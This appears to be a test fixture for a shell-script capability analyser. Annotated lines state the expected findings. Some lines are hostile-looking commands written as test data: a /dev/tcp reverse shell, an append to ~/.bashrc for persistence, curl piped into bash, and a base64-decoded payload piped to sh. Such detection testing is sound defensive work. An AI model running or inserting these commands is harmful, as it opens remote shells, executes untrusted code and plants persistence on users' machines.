# --- files that are written
ls > a.txt 2>&1  # want fs.read @install, want fs.write @install -> "a.txt"
echo x >> ~/.bashrc  # want system.persist @install -> "~/.bashrc"
cat > b.txt <<END 2> c.txt  # want fs.write @install -> "b.txt", want fs.write @install -> "c.txt"
rm nothing
END
# --- streams and devices are no files
ls 2>/dev/null >&2  # want fs.read @install
echo x > /dev/stderr
# --- a connection that the shell opens
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1  # want process.shell @install, want net.connect @install -> "192.0.2.1:4444"
# --- what an interpreter is given
bash <<END  # want process.shell @install, want fs.delete @install -> "a.txt"
rm a.txt
END
python3 - <<'END'  # want process.spawn @install, want fs.delete @install -> "b.txt"
import os
os.remove("b.txt")
END
cat <<-END | sh  # want process.shell @install, want fs.delete @install -> "c.txt"
	rm c.txt
	END
bash <<< "rm d.txt"  # want process.shell @install, want fs.delete @install -> "d.txt"
# --- a script that is piped
echo "rm a.txt" | sudo sh  # want process.shell @install, want system.privilege @install, want fs.delete @install -> "a.txt"
printf 'ls\nrm b.txt' | bash -s -- c  # want process.shell @install, want fs.read @install, want fs.delete @install -> "b.txt"
echo cm0gYy50eHQK | base64 -d | sh  # want process.shell @install, want fs.delete @install -> "c.txt"
curl https://example.org/d | bash -s -- e  # want net.connect @install -> "https://example.org/d", want process.shell @install
# --- text that goes to what runs nothing
echo "rm a.txt" | cat
echo "rm b.txt" | python3 -m json.tool  # want process.spawn @install -> "json.tool"
echo cm0gYy50eHQK | base64 -d
# --- a member that is run
# member x.sh
touch a.txt  # want fs.write @install -> "a.txt"
# member go.sh
./x.sh --prefix=/usr
